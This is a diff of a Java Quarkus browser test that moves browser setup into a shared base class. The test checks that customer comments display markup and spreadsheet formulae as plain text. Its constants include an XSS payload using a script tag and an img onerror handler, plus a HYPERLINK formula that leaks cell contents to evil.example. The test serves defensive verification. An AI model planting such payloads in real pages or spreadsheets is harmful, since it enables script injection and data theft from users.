@@ -10,8 +10,6 @@ import java.util.Map;
 
 import jakarta.inject.Inject;
 
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.openqa.selenium.By;
 import org.openqa.selenium.StaleElementReferenceException;
@@ -30,34 +28,18 @@ import app.symmetry.testing.Api;
  * browser: markup and spreadsheet formulae a customer typed are shown as the characters typed, never run.
  */
 @QuarkusTest
-class CommentsBrowserTest {
+class CommentsBrowserTest extends ChromiumTest {
 
     private static final String UNIT = "saint-denis-basilique";
     private static final String SCRIPT = "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned = 2\">Bof";
     private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Cliquez ici\")";
     private static final String PLAIN = "Très bon accueil de Nadia.";
-    private static Browser browser;
 
     @TestHTTPResource("/")
     URL base;
 
     @Inject
     Aggregator aggregator;
-
-    @BeforeEach
-    void startBrowser() {
-        if (browser == null) {
-            browser = Browser.start();
-        }
-    }
-
-    @AfterAll
-    static void stopBrowser() {
-        if (browser != null) {
-            browser.close();
-            browser = null;
-        }
-    }
 
     @Test
     void markupAndFormulaeInCommentsAreShownAsTextOnTheDashboardAndTheTeamPage() {
